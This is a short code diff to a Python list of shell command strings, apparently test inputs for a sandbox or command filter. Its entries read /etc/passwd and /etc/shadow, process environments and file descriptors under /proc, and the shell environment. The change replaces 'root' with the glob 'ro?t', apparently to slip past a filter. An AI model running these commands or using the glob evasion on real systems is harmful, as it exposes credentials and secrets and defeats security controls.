@@ -69,7 +69,7 @@ OUT = [
     "cp -r DIRECTORY here; cat here/*",
     "mv FILE here; cat here",
     "cat /proc/self/environ /proc/1/environ /proc/*/environ",
-    "cat /proc/self/cmdline /proc/self/maps /proc/self/root/FILE /proc/self/cwd/FILE",
+    "cat /proc/self/cmdline /proc/self/maps /proc/self/ro?t/FILE /proc/self/cwd/FILE",
     "cat /proc/self/fd/*; ls -l /proc/self/fd /dev/fd",
     "cat /etc/passwd /etc/shadow /etc/hostname",
     "env; set; export -p; printenv; declare -p",
